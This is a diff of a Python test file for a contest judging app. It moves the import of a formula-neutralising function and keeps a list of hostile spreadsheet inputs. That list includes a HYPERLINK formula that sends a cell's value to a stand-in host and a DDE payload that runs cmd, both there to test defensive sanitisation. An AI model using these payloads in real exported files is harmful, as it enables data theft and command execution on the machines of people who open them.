@@ -8,9 +8,10 @@ import io
 from integrity_support import contest_toml
 from judge_app.domain.contest_file import parse_contest
 from judge_app.services.contest.contest_setup import create_contest
-from judge_app.services.results.result_formats import as_csv, neutralise_formula
+from judge_app.services.results.result_formats import as_csv
 from judge_app.services.results.standings import round_report
 from judge_app.store.database import open_database
+from judge_app.table_files.xlsx_writer import neutralise_formula
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
 
